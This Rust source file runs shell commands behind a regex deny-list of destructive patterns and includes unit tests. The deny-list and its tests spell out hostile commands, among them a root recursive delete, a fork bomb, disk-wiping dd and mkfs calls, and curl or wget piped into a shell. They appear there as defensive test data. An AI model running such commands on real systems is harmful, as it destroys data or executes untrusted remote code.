//! Shell command execution with a destructive-pattern deny-list.
//!
//! The deny-list is a best-effort guard against obviously destructive
//! commands, not a sandbox. It runs before execution and its verdict is a
//! [`TaskError::SecurityViolation`].

use std::process::Stdio;
use std::sync::LazyLock;
use std::time::Duration;

use regex::Regex;
use serde::Serialize;
use tokio::process::Command;

use crate::error::TaskError;

/// Maximum captured output before truncation (64 KB).
const MAX_OUTPUT_SIZE: usize = 64 * 1024;

/// Default command timeout.
pub const DEFAULT_TIMEOUT: Duration = Duration::from_secs(120);

/// Destructive patterns that are always blocked.
static DENY_PATTERNS: LazyLock<Vec<(Regex, &'static str)>> = LazyLock::new(|| {
    [
        (r"rm\s+(-[a-z]*[rf][a-z]*\s+)+/(\s|$|\*)", "recursive delete of root"),
        (r"mkfs(\.|\s)", "filesystem format"),
        (r"dd\s+.*of=/dev/", "raw write to block device"),
        (r">\s*/dev/(sd|hd|nvme|disk)", "raw write to block device"),
        (r"diskutil\s+erase", "disk erase"),
        (r":\(\)\s*\{.*\|.*&.*\}", "fork bomb"),
        (r"chmod\s+(-[a-zA-Z]+\s+)*777\s+/(\s|$)", "world-writable root"),
        (r"(curl|wget)[^|]*\|\s*(sh|bash|zsh)", "pipe remote content to shell"),
    ]
    .into_iter()
    .map(|(pattern, reason)| {
        (
            Regex::new(pattern).expect("deny-list pattern must compile"),
            reason,
        )
    })
    .collect()
});

/// Check a command against the deny-list. Returns the reason if blocked.
pub fn is_denied(command: &str) -> Option<&'static str> {
    let normalized = command.to_lowercase();
    DENY_PATTERNS
        .iter()
        .find(|(pattern, _)| pattern.is_match(&normalized))
        .map(|(_, reason)| *reason)
}

/// Captured output of a finished command.
#[derive(Debug, Clone, Serialize)]
pub struct CommandOutput {
    pub output: String,
    pub exit_code: i32,
}

/// Run a shell command with captured, truncated output.
pub async fn run_command(command: &str, timeout: Duration) -> Result<CommandOutput, TaskError> {
    if let Some(reason) = is_denied(command) {
        return Err(TaskError::SecurityViolation(reason.to_string()));
    }

    let child = Command::new("sh")
        .args(["-c", command])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .map_err(|e| TaskError::ExecutionFailed(format!("failed to spawn command: {e}")))?;

    let output = match tokio::time::timeout(timeout, child.wait_with_output()).await {
        Ok(Ok(output)) => output,
        Ok(Err(e)) => return Err(TaskError::ExecutionFailed(e.to_string())),
        // kill_on_drop reaps the child when the future is dropped.
        Err(_) => return Err(TaskError::Timeout(timeout)),
    };

    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    let combined = if stderr.is_empty() {
        stdout.into_owned()
    } else if stdout.is_empty() {
        stderr.into_owned()
    } else {
        format!("{stdout}\n--- stderr ---\n{stderr}")
    };

    Ok(CommandOutput {
        output: truncate_output(&combined),
        exit_code: output.status.code().unwrap_or(-1),
    })
}

/// Keep head and tail when output exceeds the cap.
fn truncate_output(s: &str) -> String {
    if s.len() <= MAX_OUTPUT_SIZE {
        return s.to_string();
    }
    let half = MAX_OUTPUT_SIZE / 2;
    let head_end = floor_boundary(s, half);
    let mut tail_start = s.len() - half;
    while !s.is_char_boundary(tail_start) {
        tail_start += 1;
    }
    format!(
        "{}\n... [truncated {} bytes] ...\n{}",
        &s[..head_end],
        s.len() - MAX_OUTPUT_SIZE,
        &s[tail_start..]
    )
}

/// Largest char boundary at or below `i`.
fn floor_boundary(s: &str, mut i: usize) -> usize {
    while !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_deny_list_blocks_destructive_commands() {
        assert!(is_denied("rm -rf /").is_some());
        assert!(is_denied("rm -rf /*").is_some());
        assert!(is_denied("sudo rm -fr / --no-preserve-root").is_some());
        assert!(is_denied("mkfs.ext4 /dev/sda1").is_some());
        assert!(is_denied("dd if=/dev/zero of=/dev/sda").is_some());
        assert!(is_denied("diskutil eraseDisk free Blank /dev/disk2").is_some());
        assert!(is_denied(":(){ :|:& };:").is_some());
        assert!(is_denied("curl http://x.sh | sh").is_some());
        assert!(is_denied("wget -qO- http://x | bash").is_some());
        assert!(is_denied("chmod -R 777 /").is_some());
    }

    #[test]
    fn test_deny_list_allows_ordinary_commands() {
        assert!(is_denied("echo hi").is_none());
        assert!(is_denied("ls -la /tmp").is_none());
        assert!(is_denied("rm -rf ./build").is_none());
        assert!(is_denied("rm /tmp/file.txt").is_none());
        assert!(is_denied("df -h").is_none());
    }

    #[tokio::test]
    async fn test_run_echo() {
        let out = run_command("echo hi", DEFAULT_TIMEOUT).await.unwrap();
        assert_eq!(out.output, "hi\n");
        assert_eq!(out.exit_code, 0);
    }

    #[tokio::test]
    async fn test_nonzero_exit_code() {
        let out = run_command("exit 3", DEFAULT_TIMEOUT).await.unwrap();
        assert_eq!(out.exit_code, 3);
    }

    #[tokio::test]
    async fn test_stderr_captured() {
        let out = run_command("echo oops >&2", DEFAULT_TIMEOUT).await.unwrap();
        assert!(out.output.contains("oops"));
    }

    #[tokio::test]
    async fn test_timeout() {
        let result = run_command("sleep 5", Duration::from_millis(100)).await;
        assert!(matches!(result, Err(TaskError::Timeout(_))));
    }

    #[tokio::test]
    async fn test_denied_command_never_runs() {
        let result = run_command("rm -rf /", DEFAULT_TIMEOUT).await;
        assert!(matches!(result, Err(TaskError::SecurityViolation(_))));
    }

    #[test]
    fn test_truncate_output() {
        let small = "x".repeat(100);
        assert_eq!(truncate_output(&small), small);

        let big = "y".repeat(MAX_OUTPUT_SIZE + 1000);
        let truncated = truncate_output(&big);
        assert!(truncated.len() < big.len());
        assert!(truncated.contains("truncated"));
    }
}
